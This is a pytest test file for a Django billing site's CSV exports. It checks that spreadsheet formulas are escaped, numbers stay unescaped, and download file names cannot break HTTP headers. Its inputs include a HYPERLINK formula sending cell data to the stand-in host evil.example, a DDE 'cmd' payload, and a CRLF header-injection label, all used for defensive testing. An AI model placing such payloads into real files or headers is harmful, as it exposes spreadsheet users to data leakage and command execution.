"""Every CSV download (API, dashboard and admin usage exports, the redemption-code batch) goes through
billing_site/csv_stream.py: cells that a spreadsheet would run as a formula come out prefixed with
`'`, our own numbers stay numbers, and a user-chosen file name cannot break the header."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client

from billing_site.csv_stream import csv_stream_response
from payments.models import Wallet
from tests.dashboard.conftest import client_for, meter, new_key
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\x1b[31m=1",
    "＝1+1",  # a full-width equals sign, which Excel turns into a formula in some locales
]
HARMLESS = ["order-42", "a=b", "it's fine"]


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, getattr(response, "content", b"")
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def hostile_records(organization, catalogue):
    """Usage records whose idempotency keys are spreadsheet formulas, on a postpaid wallet that
    goes below zero (so balance_after is a negative amount we wrote ourselves)."""
    Wallet.objects.filter(pk=organization.pk).update(credit_limit=Decimal(5))
    key = new_key(organization)
    return [meter(key, "ping", idempotency_key) for idempotency_key in [*FORMULAS, *HARMLESS]]


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    keys = {row["idempotency_key"] for row in rows}
    assert keys == {"'" + formula for formula in FORMULAS} | set(HARMLESS)
    balances = [row["balance_after"] for row in rows]
    assert all(balance.startswith("-0.") for balance in balances), balances  # our negative amounts: not escaped


def test_the_api_export_neutralises_formulas(hostile_records, owner_client):
    assert_neutralised(rows_of(owner_client.get("/api/v1/usage/export.csv")))


def test_the_dashboard_export_neutralises_formulas(hostile_records, owner):
    assert_neutralised(rows_of(client_for(owner).get("/dashboard/usage/export.csv")))


def test_the_admin_export_neutralises_formulas(hostile_records, staff_user):
    response = client_for(staff_user).post(
        "/admin/metering/usagerecord/", {"action": "export_csv", "_selected_action": [r.pk for r in hostile_records]}
    )
    assert_neutralised(rows_of(response))


def test_every_cell_is_quoted_so_a_semicolon_locale_cannot_split_one(hostile_records, owner_client):
    """Excel in a locale whose list separator is `;` splits unquoted cells there; a quoted cell stays whole."""
    meter(new_key(hostile_records[0].organization, name="semi"), "ping", "x;=1+1")
    body = b"".join(owner_client.get("/api/v1/usage/export.csv").streaming_content).decode()
    assert '"x;=1+1"' in body


def test_only_strings_are_escaped_and_plain_numbers_stay_numbers():
    response = csv_stream_response(
        ["a", "b", "c", "d", "e"], [[Decimal("-0.5"), -3, "-0.500000000000", "-1e5", None]], filename="x.csv"
    )
    [row] = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))[1:]
    assert row == ["-0.5", "-3", "-0.500000000000", "'-1e5", ""]


# --- The redemption-code batch (payments admin) -----------------------------------------------------------


def generate(label: str):
    staff = Client()
    staff.force_login(UserFactory(is_staff=True, is_superuser=True))
    return staff.post(
        "/admin/payments/redemptioncode/generate/", {"batch": label, "amount": "3.00", "count": "2", "max_uses": "1"}
    )


def test_a_hostile_batch_label_yields_one_safe_header(db):
    response = generate('"\r\nX-Evil: 1')

    rows = rows_of(response)
    assert len(rows) == 2 and all(row["code"] for row in rows)
    disposition = response["Content-Disposition"]
    assert not any(ch in disposition for ch in "\r\n")
    assert disposition.startswith("attachment; filename=\"codes-X-Evil-1.csv\"; filename*=UTF-8''")
    assert disposition.count('"') == 2  # one quoted ASCII fallback; the label itself only percent-encoded
    assert "X-Evil" not in response.headers


def test_a_non_ascii_batch_label_keeps_its_name_in_filename_star(db):
    disposition = generate("Été ☃ promo")["Content-Disposition"]

    assert (
        disposition
        == "attachment; filename=\"codes-Ete-promo.csv\"; filename*=UTF-8''codes-%C3%89t%C3%A9%20%E2%98%83%20promo.csv"
    )


def test_a_plain_file_name_has_no_filename_star(db):
    assert generate("launch-2026")["Content-Disposition"] == 'attachment; filename="codes-launch-2026.csv"'
